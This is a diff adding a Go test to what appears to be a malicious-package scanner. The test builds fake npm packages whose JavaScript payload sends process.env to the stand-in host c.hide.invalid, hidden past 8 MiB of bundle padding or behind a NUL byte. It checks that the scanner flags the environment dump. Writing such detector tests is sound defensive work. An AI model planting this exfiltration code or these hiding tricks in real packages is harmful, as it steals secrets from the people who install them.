@@ -126,3 +126,25 @@ rule operator_curl_in_python
 		t.Fatalf("a missing rules_dir: %v", err)
 	}
 }
+
+// TestNothingHides: a payload past the first 8 MiB of a large bundle is
+// read (the file is read whole, bounded by analysis.max_file_bytes), and
+// so is a script that starts with a NUL byte to pass for binary.
+func TestNothingHides(t *testing.T) {
+	t.Parallel()
+	a := newAnalyzer()
+	payload := "\nconst https = require('https');\nhttps.request({hostname: 'c.hide.invalid', method: 'POST'}).end(JSON.stringify(process.env));\n"
+	for name, files := range map[string]map[string][]byte{
+		"late in a bundle": {"package.json": []byte(`{"name":"big","version":"1.0.0"}`),
+			"dist/bundle.js": []byte(strings.Repeat("var a = [1, 2, 3].map(function (x) { return x * 2; });\n", 10<<20/56) + payload)},
+		"NUL-prefixed": {"package.json": []byte(`{"name":"nul","version":"1.0.0"}`), "index.js": []byte("/*\x00*/" + payload)},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			res := analyse(t, a, "npm", pack(t, "npm", "hide", files), "")
+			if res.Verdict != analysis.VerdictSuspicious || res.Findings[0].Rule != "threatd_env_dump_sent" {
+				t.Fatalf("%s: %+v", res.Verdict, res.Findings)
+			}
+		})
+	}
+}
